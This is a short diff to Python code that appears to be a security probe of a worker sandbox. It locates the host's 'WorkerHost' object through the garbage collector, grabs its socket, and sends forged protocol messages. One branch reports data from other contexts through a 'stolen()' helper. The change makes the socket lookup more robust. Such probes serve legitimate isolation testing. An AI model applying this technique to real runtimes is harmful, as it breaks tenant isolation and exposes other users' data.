@@ -2,6 +2,7 @@
 
 import gc
 import os
+import socket
 import struct
 
 import msgspec
@@ -56,7 +57,8 @@ def stolen():
 async def main(input):
     if input["forged"] == "contexts of others":
         return {"tried": 64, "worked": stolen()}
-    link = next(one for one in gc.get_objects() if type(one).__name__ == "WorkerHost")._socket
+    host = next(one for one in gc.get_objects() if type(one).__name__ == "WorkerHost")
+    link = next(part for part in vars(host).values() if isinstance(part, socket.socket))
     link.setblocking(True)
     link.sendall(FORGED[input["forged"]])
     if input["forged"] == "half":
